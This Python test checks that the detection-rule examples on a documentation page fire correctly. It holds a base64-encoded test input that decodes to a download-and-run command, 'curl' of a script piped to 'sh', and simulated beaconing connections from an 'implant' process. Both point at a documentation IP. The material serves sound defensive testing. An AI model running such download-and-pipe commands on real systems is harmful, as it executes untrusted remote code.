"""The examples of docs/python-detections.md do what that page states."""

import re
from pathlib import Path

from tests.unit.lanner.program import lanner

PAGE = (Path(__file__).parents[4] / "docs" / "python-detections.md").read_text(encoding="utf-8")
TESTS = """
cases:
- name: a decoded command downloads a script
  given:
    evt.type: execve
    proc: {name: bash, args: ['-c', 'echo Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA== | base64 -d']}
  expect: {rule: Run encoded download, output_fields: {decoded: 'curl http://192.0.2.1/x | sh'}}
- name: another is harmless
  given: {evt.type: execve, proc: {name: bash, args: ['-c', 'echo SGVsbG8sIHRoaXMgaXMgaGFybWxlc3M= | base64 -d']}}
  expect: none
  about: Run encoded download
"""


def test_the_examples_pass_their_tests(tmp_path: Path) -> None:
    """They load without a warning, and alert about what they are for and nothing else."""
    blocks = re.findall(r"^```python\n(.*?)^```", PAGE, re.DOTALL | re.MULTILINE)
    connect = "{evt.type: connect, proc: implant, remote: '192.0.2.1:443', at: %gs}"
    regular, irregular = (
        [connect % each for each in times] for times in ((0, 10, 20, 30, 40, 50.1), (0, 1, 9, 30, 41, 90))
    )
    cases = (
        TESTS
        + f"""
- name: regular
  given: [{", ".join(regular)}]
  expect: {{rule: Connect at regular intervals, output_fields: {{interval_seconds: 10.0, network: 192.0.2.0/24}}}}
- name: irregular
  given: [{", ".join(irregular)}]
  expect: none
  about: Connect at regular intervals
"""
    )
    for number, block in enumerate(blocks):
        (tmp_path / f"{number}.py").write_text(block)
    files = [f"{number}.py" for number in range(len(blocks))]
    (tmp_path / "pages_test.yaml").write_text(f"rules: [{', '.join(files)}]\n{cases}")
    done = lanner("rules", "test", tmp_path / "pages_test.yaml")

    assert len(blocks) == 3
    assert "4 passed" in done.stdout, done.stdout + done.stderr
